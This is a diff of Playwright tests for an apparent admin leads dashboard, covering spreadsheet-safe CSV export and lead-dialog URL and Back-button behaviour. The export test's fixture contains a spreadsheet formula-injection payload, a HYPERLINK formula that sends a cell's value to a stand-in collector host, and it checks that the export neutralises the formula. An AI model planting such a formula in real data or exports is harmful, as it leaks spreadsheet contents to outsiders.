@@ -216,12 +216,12 @@ test('what is listed is exported for spreadsheets, whole and without formulas', 
   const date: unknown = expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
   expect(parse(bytes.subarray(3).toString('utf8'))).toEqual([
     ['Name', 'Company', 'Email', 'Phone', 'Products', 'Message', 'Date'],
-    ['Plain', word, email, "'+91 98765 43210", '', '', date],
+    ['Plain', word, email, '+91 98765 43210', '', '', date],
     [
       `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
       `Ünïque, "${word}" & Søns 🎁`,
       email,
-      "'+91 98765 43210",
+      '+91 98765 43210',
       'Mug, tall; Pen',
       'one\ntwo; three',
       date,
@@ -252,4 +252,34 @@ test('on a phone, a lead is read without scrolling sideways', async ({ page, gif
   await expect(dialog.getByRole('link', { name: 'Reply by e-mail' })).toBeVisible()
   expect(await dialog.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0)
   expect(await width()).toBe(360)
+})
+
+test('an open lead has an address, which opens it elsewhere, and the browser’s Back closes it', async ({
+  page,
+  giftwell,
+  request,
+}) => {
+  const word = newWord(giftwell)
+  await send(request, { name: `Buyer ${word}`, company: word, email: giftwell.newAddress('buyer') })
+  await page.goto('/admin')
+  await page.getByRole('link', { name: `Buyer ${word}` }).click()
+  const dialog = page.getByRole('dialog', { name: `Buyer ${word}` })
+  await expect(dialog).toBeVisible()
+  const address = page.url()
+  await page.goBack()
+  await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()
+
+  await openLeads(page, `/admin/leads?search=${word}`)
+  await page.getByRole('button', { name: `Buyer ${word}` }).click()
+  await expect(page).toHaveURL(`${address}?search=${word}`)
+  await page.goBack()
+  await expect(dialog).toBeHidden()
+  await expect(page).toHaveURL(`/admin/leads?search=${word}`)
+  await expect(page.getByRole('button', { name: `Buyer ${word}` })).toBeFocused()
+
+  const answer = await page.goto(address)
+  expect(answer?.status()).toBe(200)
+  await dialog.getByRole('button', { name: 'Close' }).click()
+  await expect(dialog).toBeHidden()
+  await expect(page).toHaveURL('/admin/leads')
 })
